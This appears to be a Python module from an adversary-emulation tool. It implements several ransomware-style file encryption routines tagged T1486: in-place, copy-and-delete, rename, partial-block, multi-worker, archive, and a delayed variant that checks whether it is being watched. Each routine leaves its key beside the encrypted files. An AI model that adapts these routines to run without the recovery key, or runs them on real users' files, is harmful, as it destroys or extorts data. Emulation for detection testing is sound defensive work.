# Data encrypted for impact (T1486) in several styles. Each keeps its key beside what it encrypted, so all can be undone.

NOTE = b"This folder was encrypted by an emulation. The key lies in the file beside this one.\n"
TARGETS = ("txt", "md", "csv", "pdf", "docx", "xlsx", "odt", "tex", "jpg", "png", "mp3", "zip", "c", "py")


def leave_key(key, places):
    """Key and note in each folder that is touched; half of the runs do so before they encrypt, half after."""
    for place in sorted(places):
        write(f"{place}/RECOVER.key", key.hex().encode() + b"\n")
        write(f"{place}/RECOVER.txt", NOTE)


def victims(low=60, high=130):
    """The files to be encrypted and the folders they lie in."""
    paths = pick(files(*some_folders(), kinds=TARGETS), low, high)
    if len(paths) < 40:
        paths = pick(files(*DATA, kinds=TARGETS), low, high)
    return paths, {os.path.dirname(path) for path in paths}


@job
def encrypt_in_place():
    """T1486: every file is overwritten where it lies."""
    groundwork()
    key = R.randbytes(16)
    paths, places = victims()
    notes_first = R.random() < 0.5
    if notes_first:
        leave_key(key, places)
    for path in paths:
        update(path, lambda data: stream(key, data))
    if not notes_first:
        leave_key(key, places)


@job
def encrypt_copy_delete():
    """T1486: an encrypted copy, then the original goes."""
    groundwork()
    key, ending = R.randbytes(16), noise(5)
    paths, places = victims()
    notes_first = R.random() < 0.5
    if notes_first:
        leave_key(key, places)
    for path in paths:
        write(f"{path}.{ending}", stream(key, read(path)))
        remove(path)
    if not notes_first:
        leave_key(key, places)


@job
def encrypt_rename():
    """T1486: overwritten in place and given a new extension."""
    groundwork()
    key, ending = R.randbytes(16), noise(5)
    leave_key(key, [home("Desktop")])
    paths, places = victims()
    rename_first = R.random() < 0.5
    for path in paths:
        target = f"{path}.{ending}"
        if rename_first:
            move(path, target)
            update(target, lambda data: stream(key, data))
        else:
            update(path, lambda data: stream(key, data))
            move(path, target)
    leave_key(key, places)


@job
def encrypt_partial():
    """T1486: only every other block is encrypted, with rests in between."""
    groundwork()
    key = R.randbytes(16)
    block = R.choice((512, 1024, 2048))
    paths, places = victims(50, 100)
    notes_first = R.random() < 0.5
    if notes_first:
        leave_key(key, places)
    for path in paths:
        fd = os.open(guard(path), os.O_RDWR | os.O_CLOEXEC)
        offset = 0
        while (data := os.pread(fd, block, offset)) and offset < 12 * block:
            os.pwrite(fd, stream(key, data), offset)
            offset += 3 * block
        os.close(fd)
        if R.random() < 0.15:
            pause(1, 12)
    if not notes_first:
        leave_key(key, places)


@job
def encrypt_workers():
    """T1486: several processes share the files."""
    groundwork()
    key, ending = R.randbytes(16), noise(4)
    paths, places = victims()
    notes_first = R.random() < 0.5
    if notes_first:
        leave_key(key, places)
    workers = R.randrange(2, 5)

    def work(share):
        for path in share:
            update(path, lambda data: stream(key, data))
            move(path, f"{path}.{ending}")

    collect([in_child(lambda share=paths[k::workers]: work(share), wait=False) for k in range(workers)])
    if not notes_first:
        leave_key(key, places)


@job
def encrypt_archive():
    """T1486, T1560.003: the files go into one encrypted container, the originals are deleted."""
    groundwork()
    key = R.randbytes(16)
    paths, places = victims()
    box = home(f"Documents/{noise(6)}.box")
    fd = os.open(guard(box), os.O_WRONLY | os.O_CREAT | os.O_TRUNC | os.O_CLOEXEC, 0o600)
    for path in paths:
        data = read(path)
        write_all(fd, stream(key, f"{path} {len(data)}\n".encode() + data))
        remove(path)
    os.close(fd)
    leave_key(key, [home("Documents")])


@job
def delayed_encrypt():
    """T1497.003, T1486: waits and looks whether it is watched, then encrypts."""
    for _ in range(R.randrange(4, 12)):
        pause(5, 30)
        read("/proc/self/status", 4096)
        if R.random() < 0.5:
            read("/proc/uptime", 64)
    groundwork()
    key, ending = R.randbytes(16), noise(5)
    paths, places = victims(50, 100)
    notes_first = R.random() < 0.5
    if notes_first:
        leave_key(key, places)
    for path in paths:
        data = stream(key, read(path))
        write(path, data)
        move(path, f"{path}.{ending}")
    if not notes_first:
        leave_key(key, places)
